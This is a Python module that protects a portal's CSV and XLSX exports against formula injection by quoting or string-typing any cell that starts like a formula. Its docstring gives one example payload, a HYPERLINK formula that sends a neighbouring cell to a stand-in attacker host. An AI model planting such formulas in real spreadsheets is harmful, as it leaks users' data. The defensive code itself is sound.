"""Cells the portal writes to CSV and XLSX files can never be formulas (CSV / formula injection).

OWASP's rule: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
may be run as a formula by Excel, LibreOffice or Google Sheets (``=HYPERLINK("https://evil…"&C2)``
in an agency name leaks the row next to it). In CSV such a cell is written with a leading ``'``,
which spreadsheets show as text. In XLSX the cell is stored as a string (openpyxl would otherwise
store ``=…`` as a formula) with Excel's *quote prefix* set, so it stays text even when edited.
Numbers stay numbers: only text is neutralised. Readers of the portal's own files
(score import, catalogue import) take the ``'`` off again with ``unquote_cell``.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """``value`` for a CSV cell: text that a spreadsheet would run gets a leading ``'``."""
    return "'" + value if is_formula_like(value) else value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell("" if v is None else v) for v in row]


def unquote_cell(value: str) -> str:
    """Undo ``csv_cell`` when reading a file back: ``'=x`` → ``=x``; other text is left as typed."""
    if len(value) > 1 and value[0] == "'" and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def xlsx_append(sheet, row: Sequence[Any]) -> None:
    """Append ``row`` to an openpyxl sheet; formula-like text is stored as quote-prefixed text."""
    sheet.append(["" if is_formula_like(v) else v for v in row])
    cells = sheet[sheet.max_row]
    for cell, value in zip(cells, row, strict=False):
        if is_formula_like(value):
            # Cell.value= would store "=…" as a formula: set the text and its type directly.
            cell._value, cell.data_type = value, "s"
            cell.quotePrefix = True
